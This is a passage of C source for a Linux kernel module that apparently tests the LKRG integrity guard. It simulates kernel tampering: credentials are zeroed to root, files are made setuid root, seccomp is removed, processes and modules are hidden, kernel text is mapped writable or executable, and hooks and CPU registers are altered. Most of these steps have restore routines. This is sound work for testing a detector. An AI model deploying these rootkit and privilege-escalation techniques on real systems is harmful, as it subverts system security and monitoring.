		free_code();
	return err;
}

static int make_rox(void *page)
{
	int err;

	if (!set_memory_nx_at || !set_memory_rw_at)
		return -ENOENT;
	err = set_page(set_memory_rox_at, page);
	is_rox = !err;
	snprintf(changed, sizeof(changed), "1 pages: executable");
	return err;
}

/* As by who writes to page tables, with which nobody argues */
static int make_rwx(void *page)
{
	int err = change_entry((ulong)page, 0, _PAGE_NX);

	snprintf(changed, sizeof(changed), "1 pages: writable and executable");
	return err;
}

static int run_in_vmalloc(struct task_struct *task, size_t field)
{
	return code_page ? -EBUSY : run_code(vmalloc(PAGE_SIZE), make_rox);
}

/* By the function that others get theirs from */
static ulong execmem_alloc_at;
module_param_named(execmem_alloc, execmem_alloc_at, ulong, 0400);
MODULE_PARM_DESC(execmem_alloc, "Address of that function");

static int run_in_execmem(struct task_struct *task, size_t field)
{
	void *(*const alloc)(enum execmem_type type, size_t size) =
		(void *)execmem_alloc_at;

	if (!alloc)
		return -ENOENT;
	return code_page ? -EBUSY :
		run_code(alloc(EXECMEM_MODULE_TEXT, PAGE_SIZE), make_rox);
}

static int run_in_writable(struct task_struct *task, size_t field)
{
	return code_page ? -EBUSY : run_code(vmalloc(PAGE_SIZE), make_rwx);
}

/*
 * The page table that leads there, and to nothing of anybody else's, cannot be read: CPUs
 * go by its physical address.
 */
static int make_unread(void *page)
{
	unsigned int level;
	void *table;
	int err = make_rox(page);

	if (err)
		return err;
	table = (void *)((ulong)lookup_address((ulong)page, &level) & PAGE_MASK);
	/* It becomes a page of its own where all memory is mapped. */
	err = set_page(set_memory_rox_at, table) ?: set_page(set_memory_nx_at, table) ?:
	      set_page(set_memory_rw_at, table) ?:
	      change_entry((ulong)table, 0, _PAGE_PRESENT);
	if (err)
		return err;
	asm volatile("invlpg (%0)" : : "r" (table) : "memory");
	snprintf(changed, sizeof(changed), "%u pages: writable and executable",
		 PTRS_PER_PTE);
	return 0;
}

static int run_in_unread(struct task_struct *task, size_t field)
{
	if (code_page)
		return -EBUSY;
	code_area = vmalloc(2 * PMD_SIZE);
	return run_code(PTR_ALIGN(code_area, PMD_SIZE), make_unread);
}

/* Where all memory is mapped */
static int run_in_linear(struct task_struct *task, size_t field)
{
	return code_page ? -EBUSY :
		run_code((void *)__get_free_page(GFP_KERNEL), make_rox);
}

/* Where the first instruction of a function that nobody calls is run */
#ifdef CONFIG_KPROBES
static struct kprobe slot_probe;

static void free_slot(void)
{
	if (slot_probe.addr)
		unregister_kprobe(&slot_probe);
	memset(&slot_probe, 0, sizeof(slot_probe));
}

static int make_slot(void)
{
	if (slot_probe.addr)
		return -EBUSY;
	slot_probe.addr = (kprobe_opcode_t *)lkrg_attack_caller;
	return register_kprobe(&slot_probe);
}

static void *slot_of_probe(void)
{
	return slot_probe.ainsn.insn;
}

/* What was made for kprobes becomes writable as well. */
static int map_slot_writable(struct task_struct *task, size_t field)
{
	int err = make_slot() ?: change_entry((ulong)slot_of_probe(), _PAGE_RW, 0);

	if (err)
		free_slot();
	else
		snprintf(changed, sizeof(changed), "1 pages: writable");
	return err;
}
#else
static void free_slot(void)
{
}

static int make_slot(void)
{
	return -EOPNOTSUPP;
}

static void *slot_of_probe(void)
{
	return NULL;
}

static int map_slot_writable(struct task_struct *task, size_t field)
{
	return -EOPNOTSUPP;
}
#endif

/* One bit is flipped for a moment, to see whether it can be. */
static int write_to_second(u8 *at)
{
	u8 *alias;
	int err = 0;

	if (alias_page)
		return -EBUSY;
	alias_page = map_alias(at);
	if (!alias_page)
		return -ENOMEM;
	OPTIMIZER_HIDE_VAR(at);
	alias = alias_page + offset_in_page(at);
	WRITE_ONCE(*alias, *alias ^ 1);
	if (READ_ONCE(*at) != READ_ONCE(*alias))
		err = -EIO;
	WRITE_ONCE(*alias, *alias ^ 1);
	snprintf(changed, sizeof(changed), "1 pages: writable");
	return err;
}

static int map_text_again(struct task_struct *task, size_t field)
{
	return write_to_second(victim_text());
}

static int map_rodata_again(struct task_struct *task, size_t field)
{
	return write_to_second((u8 *)&hex_asc_upper[0xa]);
}

static int map_module_text_again(struct task_struct *task, size_t field)
{
	return write_to_second((u8 *)lkrg_attack_idle + CHANGE_MAX);
}

static void *many_aliases[MANY];

static int restore_many_aliases(struct task_struct *task, size_t field)
{
	int i;

	for (i = 0; i < ARRAY_SIZE(many_aliases); i++) {
		vunmap(many_aliases[i]);
		many_aliases[i] = NULL;
	}
	return 0;
}

static int map_text_many_times(struct task_struct *task, size_t field)
{
	int i;

	if (many_aliases[0])
		return -EBUSY;
	for (i = 0; i < ARRAY_SIZE(many_aliases); i++) {
		many_aliases[i] = map_alias(victim_text());
		if (!many_aliases[i]) {
			restore_many_aliases(task, field);
			return -ENOMEM;
		}
	}
	return 0;
}

/* What is nobody's text may be mapped as often as one likes, and be read-only. */
static int map_data_again(struct task_struct *task, size_t field)
{
	static u8 data[PAGE_SIZE] __aligned(PAGE_SIZE);

	return write_to_second(data);
}

static int restore_memory(struct task_struct *task, size_t field)
{
	if (!changed[0])
		return -ENOENT;
	map_as_before(task, field);
	free_slot();
	if (code_page)
		free_code();
	vunmap(alias_page);
	alias_page = NULL;
	changed[0] = '\0';
	return 0;
}

/* === Code that is neither of the kernel nor of a module ================= */

/* Where the caller has a program of BPF */
#define PROGRAM_FD	100

/* Whose code it is */
enum {
	CODE_PROGRAM,
	CODE_TRAMPOLINE,
	CODE_SLOT,
};

static struct bpf_prog *code_program;
static struct change code_change;

static void let_go_of_code(void)
{
	if (!code_program)
		return;
	free_slot();
	unregister_hooks(NULL, 0);
	bpf_prog_put(code_program);
	code_program = NULL;
}

/* Nobody runs any of it. */
static int hold_code(struct task_struct *task, size_t field)
{
	struct bpf_prog *program;
	int err;

	if (code_program)
		return -EBUSY;
	program = bpf_prog_get_type_dev(PROGRAM_FD, BPF_PROG_TYPE_SOCKET_FILTER, false);
	if (IS_ERR(program))
		return PTR_ERR(program);
	code_program = program;
	err = program->jited ? register_hooks(NULL, 0) : -EOPNOTSUPP;
	if (!err)
		err = make_slot();
	if (err)
		let_go_of_code();
	return err;
}

/* What has no name is told by where it is in its memory. */
static int flip_nameless(void *start, size_t offset)
{
	const u8 *at = start + offset;
	int err = flip(&code_change, start + offset, 1, 0x01);

	if (!err)
		snprintf(changed, sizeof(changed), "text+%#zx: %*ph -> %*ph", offset, 1,
			 code_change.old, 1, at);
	return err;
}

static int flip_code(struct task_struct *task, size_t whose)
{
	if (!code_program)
		return -ENOENT;
	switch (whose) {
	case CODE_PROGRAM:
		return flip(&code_change, (void *)code_program->bpf_func + 8, 1, 0x01);
	case CODE_TRAMPOLINE:
		return flip_nameless((void *)hook_ops.trampoline, 16);
	default:
		return flip_nameless(PTR_ALIGN_DOWN((void *)slot_of_probe(), PAGE_SIZE),
				     offset_in_page(slot_of_probe()));
	}
}

static int restore_code(struct task_struct *task, size_t field)
{
	int err = restore(&code_change);

	let_go_of_code();
	return err;
}

/* === Inodes ============================================================= */

/* The file "target" where the caller is */
static struct path target;
static umode_t target_mode;
static kuid_t target_uid;
static kgid_t target_gid;
/* As long as the record is */
static char target_record[32];

/* Without the guard it is a length, and not where the record is. */
static void *inode_record(void)
{
	const struct lsm_blob_sizes *const sizes = (void *)lkrg_blob_sizes_at;

#ifdef CONFIG_SECURITY_LKRG
	if (sizes && static_key_enabled(&lkrg_enabled))
		return d_inode(target.dentry)->i_security + sizes->lbs_inode;
#endif
	return NULL;
}

static int find_target(void)
{
	const struct inode *inode;
	int err;

	if (target.dentry)
		return -EBUSY;
	err = kern_path("target", LOOKUP_FOLLOW, &target);
	if (err)
		return err;
	inode = d_inode(target.dentry);
	target_mode = inode->i_mode;
	target_uid = inode->i_uid;
	target_gid = inode->i_gid;
	if (inode_record())
		memcpy(target_record, inode_record(), sizeof(target_record));
	return 0;
}

static int add_to_mode(struct task_struct *task, size_t bits)
{
	int err = find_target();

	if (!err)
		d_inode(target.dentry)->i_mode |= bits;
	return err;
}

/* Hooks of security modules are not called for such an inode. */
static int make_private(struct task_struct *task, size_t field)
{
	int err = find_target();

	if (!err)
		d_inode(target.dentry)->i_flags |= S_PRIVATE;
	return err;
}

static int take_uid(struct task_struct *task, size_t field)
{
	int err = find_target();

	if (!err)
		d_inode(target.dentry)->i_uid = GLOBAL_ROOT_UID;
	return err;
}

static int give_uid(struct task_struct *task, size_t field)
{
	int err = find_target();

	if (!err)
		d_inode(target.dentry)->i_uid = make_kuid(&init_user_ns, ATTACK_UID);
	return err;
}

static int take_gid(struct task_struct *task, size_t field)
{
	int err = find_target();

	if (!err)
		d_inode(target.dentry)->i_gid = GLOBAL_ROOT_GID;
	return err;
}

static int make_setuid_root(struct task_struct *task, size_t field)
{
	int err = add_to_mode(task, S_ISUID | S_ISGID | 0777);

	if (err)
		return err;
	d_inode(target.dentry)->i_uid = GLOBAL_ROOT_UID;
	d_inode(target.dentry)->i_gid = GLOBAL_ROOT_GID;
	return 0;
}

/* The guard may have a copy of the mode: that is changed as well. */
static int add_to_both_modes(struct task_struct *task, size_t bits)
{
	int err = add_to_mode(task, bits);
	umode_t *word;
	size_t i;

	word = err ? NULL : inode_record();
	for (i = 0; word && i < sizeof(target_record) / sizeof(*word); i++)
		if (word[i] == target_mode)
			word[i] |= bits;
	return err;
}

/* Or nothing is on record any more. */
static int add_to_mode_without_record(struct task_struct *task, size_t bits)
{
	int err = add_to_mode(task, bits);

	if (!err && inode_record())
		memset(inode_record(), 0, sizeof(target_record));
	return err;
}

#ifdef CONFIG_KPROBES
/* From when execve() has opened it until what it has read is in use */
static umode_t flash_bits;

static void set_mode(const struct file *file, umode_t bits)
{
	if (target.dentry && file_inode(file) == d_inode(target.dentry))
		d_inode(target.dentry)->i_mode = target_mode | bits;
}

static int flip_there(struct kprobe *probe, struct pt_regs *regs)
{
	const struct linux_binprm *const bprm =
		(void *)regs_get_kernel_argument(regs, 0);

	set_mode(bprm->file, flash_bits);
	return 0;
}

static int flip_back(struct kprobe *probe, struct pt_regs *regs)
{
	set_mode((void *)regs_get_kernel_argument(regs, 1), 0);
	return 0;
}

static struct kprobe flash_probes[] = {
	{ .symbol_name = "begin_new_exec", .pre_handler = flip_there },
	{ .symbol_name = "security_bprm_creds_from_file", .pre_handler = flip_back },
};

static void end_flashes(void)
{
	size_t i;

	flash_bits = 0;
	for (i = 0; i < ARRAY_SIZE(flash_probes); i++) {
		if (flash_probes[i].addr)
			unregister_kprobe(&flash_probes[i]);
		flash_probes[i].addr = NULL;
		flash_probes[i].flags = 0;
	}
}

static int flash_mode(struct task_struct *task, size_t bits)
{
	int err = find_target();
	size_t i;

	for (i = 0; !err && i < ARRAY_SIZE(flash_probes); i++)
		err = register_kprobe(&flash_probes[i]);
	if (err)
		end_flashes();
	else
		flash_bits = bits;
	return err;
}
#else
static int flash_mode(struct task_struct *task, size_t bits)
{
	return -EOPNOTSUPP;
}

static void end_flashes(void)
{
}
#endif

/* The file system where the caller is */
static struct path super;
static unsigned long super_flags;
static char super_record[16];

static void *record_of_super(void)
{
	const struct lsm_blob_sizes *const sizes = (void *)lkrg_blob_sizes_at;

#ifdef CONFIG_SECURITY_LKRG
	if (sizes && static_key_enabled(&lkrg_enabled))
		return super.dentry->d_sb->s_security + sizes->lbs_superblock;
#endif
	return NULL;
}

static int disown_super(struct task_struct *task, size_t field)
{
	int err = super.dentry ? -EBUSY : kern_path(".", 0, &super);

	if (err)
		return err;
	super_flags = super.dentry->d_sb->s_flags;
	super.dentry->d_sb->s_flags |= SB_NOUSER;
	if (record_of_super())
		memcpy(super_record, record_of_super(), sizeof(super_record));
	return 0;
}

static int disown_super_without_record(struct task_struct *task, size_t field)
{
	int err = disown_super(task, field);

	if (!err && record_of_super())
		memset(record_of_super(), 0, sizeof(super_record));
	return err;
}

static int restore_super(struct task_struct *task, size_t field)
{
	if (!super.dentry)
		return 0;
	super.dentry->d_sb->s_flags = super_flags;
	if (record_of_super())
		memcpy(record_of_super(), super_record, sizeof(super_record));
	path_put(&super);
	memset(&super, 0, sizeof(super));
	return 0;
}

static int restore_inode(struct task_struct *task, size_t field)
{
	struct inode *inode;

	end_flashes();
	if (!target.dentry)
		return 0;
	inode = d_inode(target.dentry);
	inode->i_flags &= ~S_PRIVATE;
	inode->i_mode = target_mode;
	inode->i_uid = target_uid;
	inode->i_gid = target_gid;
	if (inode_record())
		memcpy(inode_record(), target_record, sizeof(target_record));
	path_put(&target);
	memset(&target, 0, sizeof(target));
	return 0;
}

/* A link that leads elsewhere, and where it led before */
static struct path link;
static char *led_to;

static int redirect_link(struct task_struct *task, size_t field)
{
	struct inode *inode;
	int err;

	if (link.dentry)
		return -EBUSY;
	err = kern_path("target", 0, &link);
	if (err)
		return err;
	inode = d_inode(link.dentry);
	if (!inode->i_link) {
		path_put(&link);
		memset(&link, 0, sizeof(link));
		return -EOPNOTSUPP;
	}
	led_to = inode->i_link;
	inode->i_link = helper;
	return 0;
}

static int restore_link(struct task_struct *task, size_t field)
{
	if (!link.dentry)
		return 0;
	d_inode(link.dentry)->i_link = led_to;
	path_put(&link);
	memset(&link, 0, sizeof(link));
	return 0;
}

/* === The table ========================================================== */

#define CPU(_name, _field) {				\
	.name = "cpu-" _name,				\
	.what = "that register of the last CPU",		\
	.run = change_cpu,				\
	.field = _field,				\
}

#define CODE(_name, _field, _what) {			\
	.name = "code-" _name,				\
	.what = "one byte of " _what,			\
	.run = flip_code,				\
	.field = _field,				\
}

#define HOOK(_name, _field, _what) {			\
	.name = "hook-" _name,				\
	.what = _what " leads to data",			\
	.run = change_hook,				\
	.field = _field,				\
}

#define FIELD(_field, _run, _what) {			\
	.name = "cred-" #_field,			\
	.what = "own " #_field " " _what,		\
	.run = _run,					\
	.field = offsetof(struct cred, _field),		\
}

#define NS(_name, _field) {				\
	.name = "ns-" _name,				\
	.what = "own " #_field " becomes that of init",	\
	.run = overwrite_ns,				\
	.field = offsetof(struct nsproxy, _field),	\
}

#define MODE(_name, _run, _bits, _what) {		\
	.name = _name,					\
	.what = _what,					\
	.run = _run,					\
	.field = _bits,					\
}

#define NAME(_name, _which) {				\
	.name = "helper-" _name,			\
	.what = "that string names the helper",		\
	.run = overwrite_name,				\
	.field = _which,				\
}

#define ATTACK(_name, _run, _what) {			\
	.name = _name,					\
	.what = _what,					\
	.run = _run,					\
}

#define LATE(_name, _which, _what) {			\
	.name = _name,					\
	.what = _what " than what was to be started",	\
	.run = run_exchanged_helper,			\
	.field = _which,				\
}

#define TICKET(_name, _which, _what) {			\
	.name = "ticket-" _name,			\
	.what = "what the next one has decided on " _what,	\
	.run = change_ticket,				\
	.field = _which,				\
}

#define FLOW(_name, _way, _to, _function) {		\
	.name = "flow-" _name "-" #_to,			\
	.what = "the kernel is led to " _function "()",	\
	.run = come_to_##_to,				\
	.field = _way,					\
}

static const struct attack attacks[] = {
	FIELD(uid, clear_word, "becomes 0"),
	FIELD(gid, clear_word, "becomes 0"),
	FIELD(suid, clear_word, "becomes 0"),
	FIELD(sgid, clear_word, "becomes 0"),
	FIELD(euid, clear_word, "becomes 0"),
	FIELD(egid, clear_word, "becomes 0"),
	FIELD(fsuid, clear_word, "becomes 0"),
	FIELD(fsgid, clear_word, "becomes 0"),
	FIELD(securebits, clear_word, "become 0"),
	FIELD(cap_inheritable, fill_caps, "gets all capabilities"),
	FIELD(cap_permitted, fill_caps, "gets all capabilities"),
	FIELD(cap_effective, fill_caps, "gets all capabilities"),
	FIELD(cap_bset, fill_caps, "gets all capabilities"),
	FIELD(cap_ambient, fill_caps, "gets all capabilities"),
	FIELD(user, overwrite_user, "becomes that of root"),
	FIELD(user_ns, overwrite_user_ns, "becomes the initial one"),
	FIELD(ucounts, overwrite_ucounts, "become those of root"),
	FIELD(group_info, overwrite_group_info, "becomes that of init"),
	ATTACK("cred-groups", overwrite_groups, "own first group becomes another"),
	ATTACK("cred-session_keyring", overwrite_keyring,
	       "own session_keyring becomes that of the last child"),
	ATTACK("cred-label", clear_landlock, "own Landlock domain disappears"),
	ATTACK("cred-reuse", reuse, "own credential was freed and root got its memory"),
	ATTACK("cred-root", become_root, "own ids become 0, all capabilities"),
	ATTACK("cred-init", redirect_both, "both pointers to init_cred"),
	ATTACK("cred-only", redirect_cred, "only ->cred to init_cred"),
	ATTACK("cred-real", redirect_real_cred, "only ->real_cred to init_cred"),
	ATTACK("cred-forged", forge_cred, "both pointers to a forged credential"),
	ATTACK("worker-init", redirect_worker,
	       "both pointers of an io_uring worker to init_cred"),
	ATTACK("commit-init", commit_init, "commit_creds(&init_cred)"),
	ATTACK("commit-kernel", commit_kernel,
	       "commit_creds(prepare_kernel_cred(&init_task))"),
	ATTACK("commit-own", commit_own,
	       "commit_creds() of an own copy, uid 0, all capabilities"),
	ATTACK("exec-euid", change_exec,
	       "what the next execve() has prepared gets euid 0"),
	ATTACK("exec-ids", change_exec_ids,
	       "the same, with uid 0, while its ids are decided on"),
	ATTACK("exec-caps", change_exec_caps,
	       "the same while its capabilities are decided on"),
	ATTACK("commit-caps", change_commit,
	       "what the next system call is about to commit gets all capabilities"),
	TICKET("setuid", TICKET_SETUID, "gets egid and fsgid 0 as well"),
	TICKET("setgid", TICKET_SETGID, "gets euid and fsuid 0 as well"),
	TICKET("capset", TICKET_CAPSET, "gets euid and fsuid 0 as well"),
	TICKET("userns", TICKET_USERNS, "gets euid and fsuid 0 as well"),
	ATTACK("override-init", override_init,
	       "override_creds(&init_cred), not reverted"),
	ATTACK("override-kernel", override_kernel,
	       "override_creds(prepare_kernel_cred(&init_task)), not reverted"),
	FLOW("pivot", BY_PIVOT, commit, "commit_creds"),
	FLOW("pivot", BY_PIVOT, override, "override_creds"),
	FLOW("pivot", BY_PIVOT, switch, "switch_task_namespaces"),
	FLOW("pivot", BY_PIVOT, root, "set_fs_root"),
	FLOW("gadget", BY_GADGET, commit, "commit_creds"),
	FLOW("gadget", BY_GADGET, override, "override_creds"),
	FLOW("gadget", BY_GADGET, switch, "switch_task_namespaces"),
	FLOW("gadget", BY_GADGET, root, "set_fs_root"),
	FLOW("gadget", BY_GADGET, pwd, "set_fs_pwd"),
	FLOW("gadget", BY_GADGET, prepare, "prepare_kernel_cred"),
	FLOW("gadget", BY_GADGET, helper, "call_usermodehelper_exec"),
	FLOW("gadget", BY_GADGET, memory, "set_memory_x"),
	FLOW("gadget", BY_GADGET, poke, "text_poke"),
	FLOW("chain", BY_CHAIN, commit, "commit_creds"),
	FLOW("chain", BY_CHAIN, switch, "switch_task_namespaces"),
	FLOW("chain", BY_CHAIN, root, "set_fs_root"),
	FLOW("chain", BY_CHAIN, prepare, "prepare_kernel_cred"),
	FLOW("chain", BY_CHAIN, code, "set_memory_rox"),
	FLOW("stranger", BY_STRANGER, commit, "commit_creds"),
	FLOW("stranger", BY_STRANGER, override, "override_creds"),
	FLOW("stranger", BY_STRANGER, switch, "switch_task_namespaces"),
	FLOW("stranger", BY_STRANGER, root, "set_fs_root"),
	ATTACK("own-nsproxy", switch_namespaces,
	       "switch_task_namespaces() of itself to init_nsproxy"),
	ATTACK("own-copy", switch_to_copy,
	       "switch_task_namespaces() of itself to a copy of init_nsproxy"),
	ATTACK("child-nsproxy", switch_child,
	       "switch_task_namespaces() of the last child to init_nsproxy"),
	NS("uts", uts_ns),
	NS("ipc", ipc_ns),
	NS("mnt", mnt_ns),
	NS("pid_for_children", pid_ns_for_children),
	NS("net", net_ns),
	NS("time", time_ns),
	NS("time_for_children", time_ns_for_children),
	NS("cgroup", cgroup_ns),
	ATTACK("own-fs", redirect_fs, "own fs becomes that of init_task"),
	ATTACK("fs-root", overwrite_root, "own root becomes that of init_task"),
	ATTACK("fs-pwd", overwrite_pwd,
	       "own working directory becomes the root of init_task"),
	ATTACK("seccomp-work", clear_seccomp_work,
	       "own system calls are not filtered any more"),
	ATTACK("seccomp-mode", clear_seccomp, "own seccomp mode becomes 0"),
	ATTACK("seccomp-filter", take_filter,
	       "own filters become those of the last child"),
	ATTACK("no_new_privs", clear_no_new_privs, "own no_new_privs is cleared"),
	ATTACK("ptracer_cred", overwrite_tracer,
	       "own tracer seems to have the credential of init"),
	ATTACK("dumpable", make_dumpable, "own memory may be looked into"),
	ATTACK("flags", set_private_flag, "own flags get a private mark"),
	{
		.name = "unkillable",
		.what = "own fsuid becomes 0, and no signal kills",
		.run = become_unkillable,
		.field = offsetof(struct cred, fsuid),
	},
	ATTACK("hide-tasks", hide_from_tasks, "off the list of tasks"),
	ATTACK("hide-pid", hide_from_pid, "its pid leads nowhere"),
	{
		.name = "hide-process",
		.what = "its process is found by nobody",
		.run = hide_from_pid,
		.field = PIDTYPE_TGID,
	},
	ATTACK("hide-idr", hide_from_idr, "its pid is not in the table"),
	ATTACK("hide-container", hide_from_container, "nor in that of its container"),
	ATTACK("hide-record", hide_record, "its record off the list of lkrg"),
	ATTACK("hide-record-pid", hide_record_and_pid,
	       "and itself out of the pid table"),
	ATTACK("hide-owner", give_record_away, "its record seems to be that of init_task"),
	ATTACK("init-fsuid", overwrite_first, "the fsuid of process 1 becomes 1000"),
	ATTACK("init-restore", restore_first, "and 0 again"),
	ATTACK("kthread-start", start_sleeper, "a kernel thread is there, and sleeps"),
	ATTACK("kthread-fsuid", overwrite_sleeper, "its fsuid becomes 1000"),
	ATTACK("kthread-stop", stop_sleeper, "it ends"),
	{
		.name = "parent-fsuid",
		.what = "the fsuid of the parent becomes 0",
		.run = clear_word,
		.field = offsetof(struct cred, fsuid),
		.on_parent = true,
	},
	{
		.name = "parent-init",
		.what = "both pointers of the parent to init_cred",
		.run = redirect_parent,
		.on_parent = true,
	},
	ATTACK("text-flip", flip_text, "one byte of kernel text"),
	ATTACK("text-flip4", flip_text_words, "four words of kernel text"),
	ATTACK("text-head", flip_text_head, "twelve bytes where a function begins"),
	ATTACK("text-flip-bit", flip_text_bit, "one bit of kernel text, any"),
	ATTACK("text-poke", poke_text, "the same with text_poke()"),
	ATTACK("text-patch-data", patch_traced_data,
	       "a call to data where functions are traced"),
	ATTACK("text-patch-jump", patch_traced_jump,
	       "a jump where functions are traced"),
	ATTACK("text-patch-function", patch_traced_function,
	       "a call of another function where functions are traced"),
	ATTACK("text-patch-elsewhere", patch_elsewhere,
	       "a call where nothing is patched"),
	ATTACK("text-restore", restore_text, "the text as it was"),
	ATTACK("rodata-flip", flip_rodata, "one byte of read-only data"),
	ATTACK("rodata-extable", flip_extable, "an entry of the exception table"),
	ATTACK("rodata-vdso", flip_vdso, "what is mapped as vDSO"),
	ATTACK("rodata-restore", restore_rodata, "the data as it was"),
	ATTACK("mapping-text", map_text_writable, "kernel text writable"),
	ATTACK("mapping-rodata", map_rodata_writable, "read-only data writable"),
	ATTACK("mapping-text_linear", map_text_linear_writable,
	       "kernel text, where all memory is mapped"),
	ATTACK("mapping-rodata_linear", map_rodata_linear_writable,
	       "read-only data, where all memory is mapped"),
	ATTACK("mapping-module_text", map_module_text_writable,
	       "module text writable"),
	ATTACK("mapping-module_text_linear", map_module_text_linear_writable,
	       "module text, where all memory is mapped"),
	ATTACK("mapping-module_rodata_writable", map_module_rodata_writable,
	       "read-only data of a module writable"),
	ATTACK("mapping-module_late", map_module_late_writable,
	       "what is read-only after init of a module"),
	ATTACK("mapping-module_rodata", map_module_rodata_executable,
	       "read-only data of a module executable"),
	ATTACK("mapping-frame", map_module_text_elsewhere, "module text elsewhere"),
	ATTACK("mapping-restore", map_as_before, "page tables as they were"),
	ATTACK("memory-vmalloc", run_in_vmalloc, "code in memory from vmalloc()"),
	ATTACK("memory-execmem", run_in_execmem, "code in memory for code, for nobody"),
	ATTACK("memory-rwx", run_in_writable, "the same, and it is writable"),
	ATTACK("memory-unread", run_in_unread, "code behind a page table that none can read"),
	ATTACK("memory-linear", run_in_linear, "code where all memory is mapped"),
	ATTACK("memory-slot", map_slot_writable, "a slot of kprobes writable"),
	ATTACK("memory-text", map_text_again, "another mapping of kernel text"),
	ATTACK("memory-rodata", map_rodata_again, "of read-only data"),
	ATTACK("memory-module_text", map_module_text_again, "of module text"),
	ATTACK("memory-data", map_data_again, "of data, which is honest"),
	ATTACK("memory-many", map_text_many_times, "many mappings of kernel text"),
	ATTACK("memory-many-restore", restore_many_aliases, "they are away"),
	ATTACK("memory-restore", restore_memory, "memory as it was"),
	ATTACK("code-prepare", hold_code, "a program of BPF stays, and others get some"),
	CODE("bpf", CODE_PROGRAM, "a program of BPF"),
	CODE("trampoline", CODE_TRAMPOLINE, "a trampoline of ftrace"),
	CODE("slot", CODE_SLOT, "an instruction that a kprobe has copied"),
	ATTACK("code-restore", restore_code, "the code as it was"),
	ATTACK("module_text-flip", flip_module_text, "one byte of module text"),
	ATTACK("module_text-flip-bit", flip_module_text_bit,
	       "one bit of module text, any"),
	ATTACK("module_text-patch", patch_label,
	       "a jump label of a module that leads elsewhere"),
	ATTACK("module_text-call", move_call, "where a static call of a module is"),
	ATTACK("module_text-probe", forge_opcode, "what is left of a kprobe"),
	ATTACK("module_text-restore", restore_module_text, "the text as it was"),
	ATTACK("module_rodata-flip", flip_module_rodata,
	       "one byte of read-only data of a module"),
	ATTACK("module_rodata-extable", flip_module_extable,
	       "an entry of the exception table of a module"),
	ATTACK("module_rodata-restore", restore_module_rodata,
	       "the data as it was"),
	ATTACK("module_late-flip", flip_module_late,
	       "one byte that is read-only after init of a module"),
	ATTACK("module_late-restore", restore_module_late, "the data as it was"),
	ATTACK("module-hide", hide_module, "a module off the list of modules"),
	ATTACK("module-hide-all", hide_module_everywhere,
	       "and out of the set of modules"),
	ATTACK("module-hide-state", hide_module_state,
	       "a module that seems not to be formed"),
	ATTACK("module-hide-sysfs", hide_module_sysfs, "a module that sysfs has not"),
	ATTACK("module-hide-text", hide_module_text,
	       "a module whose text is not that of a module"),
	ATTACK("module-hide-bounds", hide_module_bounds,
	       "a module where there are no modules"),
	ATTACK("module-hide-going", hide_module_going,
	       "a module that seems to be about to go"),
	ATTACK("module-taints", clear_module_taints, "a module that taints nothing"),
	ATTACK("module-tables", redirect_module_tables,
	       "a module that has its tables elsewhere"),
	ATTACK("module-hide-entry", hide_module_entry,
	       "a module off the list of lkrg"),
	ATTACK("module-hide-place", hide_module_place,
	       "text of a module out of the tree of lkrg"),
	ATTACK("module-show", show_module, "a module as it was"),
	CPU("lstar", 0),
	CPU("cstar", 1),
	CPU("star", 2),
	CPU("sfmask", 3),
	CPU("sysenter_eip", 4),
	CPU("sysenter_esp", 5),
	CPU("sysenter_cs", 6),
	CPU("sce", 7),
	CPU("pat", 8),
	CPU("wp", 9),
	CPU("smep", 10),
	CPU("smap", 11),
	CPU("umip", 12),
	CPU("fsgsbase", 13),
	CPU("pke", 14),
	CPU("xcr0", 15),
	CPU("dr1", 16),
	CPU("idtr", 17),
	CPU("idtr_limit", 18),
	CPU("gdtr", 19),
	CPU("gdtr_limit", 20),
	CPU("gdt", 21),
	CPU("ist7", 22),
	CPU("present", 23),
	CPU("active", 24),
	CPU("dr0", 25),
	CPU("dr2", 26),
	CPU("dr3", 27),
	CPU("gdt_kernel_cs", 28),
	CPU("gdt_kernel_ds", 29),
	CPU("gdt_user32_cs", 30),
	CPU("gdt_user_ds", 31),
	CPU("gdt_user_cs", 32),
	CPU("ist1", 33),
	CPU("ist2", 34),
	CPU("ist3", 35),
	CPU("ist4", 36),
	CPU("ist5", 37),
	CPU("ist6", 38),
	CPU("record", 39),
	CPU("sp0", 40),
	CPU("apic_base", 41),
	ATTACK("cpu-restore", restore_cpu, "the CPU as it was"),
	ATTACK("cpu-rewrite", rewrite_cpu, "its registers get what is in them"),
	ATTACK("gate-offset", change_gate_offset, "where an exception leads"),
	ATTACK("gate-dpl", change_gate_bits, "who may raise an exception"),
	ATTACK("gate-restore", restore_gate, "the gate as it was"),
	HOOK("ftrace", HOOK_FTRACE, "function tracing"),
	HOOK("ftrace-page", HOOK_FTRACE_PAGE, "the same"),
	HOOK("trampoline", HOOK_TRAMPOLINE, "its trampoline"),
	HOOK("direct", HOOK_DIRECT, "what is called without a trampoline"),
	HOOK("kprobe", HOOK_KPROBE, "a kprobe"),
	HOOK("kprobe-page", HOOK_KPROBE_PAGE, "the same"),
	HOOK("aggregated", HOOK_AGGREGATED, "one of two kprobes at one place"),
	HOOK("aggregator", HOOK_AGGREGATOR, "who calls both of them"),
	HOOK("kretprobe", HOOK_KRETPROBE, "a kretprobe"),
	HOOK("rethook", HOOK_RETHOOK, "what a kretprobe is called by"),
	HOOK("rethook_data", HOOK_RETHOOK_DATA, "which kretprobe that is"),
	HOOK("fprobe", HOOK_FPROBE, "an fprobe"),
	HOOK("fprobe_exit", HOOK_FPROBE_EXIT, "the same, when the function returns"),
	HOOK("fprobe_rethook", HOOK_FPROBE_RETHOOK, "what it is called by then"),
	HOOK("graph", HOOK_GRAPH, "a tracer of the graph of functions"),
	HOOK("graph_stub", HOOK_GRAPH_STUB, "what is in its place"),
	HOOK("livepatch", HOOK_LIVEPATCH, "a livepatch"),
	HOOK("uprobe", HOOK_UPROBE, "a uprobe"),
	HOOK("tracepoint", HOOK_TRACEPOINT, "a tracepoint"),
	HOOK("static_call", HOOK_STATIC_CALL, "a static call"),
	HOOK("module_tracepoint", HOOK_MODULE_TRACEPOINT, "a tracepoint of a module"),
	HOOK("module_static_call", HOOK_MODULE_STATIC_CALL, "a static call of a module"),
	ATTACK("hook-restore", restore_hook, "the hook as it was, and away"),
	ATTACK("baselines", call_baselines, "what is there is said to be right"),
	ATTACK("lie", start_lying, "functions that are hooked, and lie"),
	ATTACK("lie-restore", stop_lying, "they say the truth"),
	ATTACK("hook-many", change_many_hooks, "more than there is room for"),
	ATTACK("hook-many-restore", restore_many_hooks, "they are away"),
	ATTACK("hooks-register", register_hooks, "one of each, which is honest"),
	ATTACK("hooks-unregister", unregister_hooks, "which are away again"),
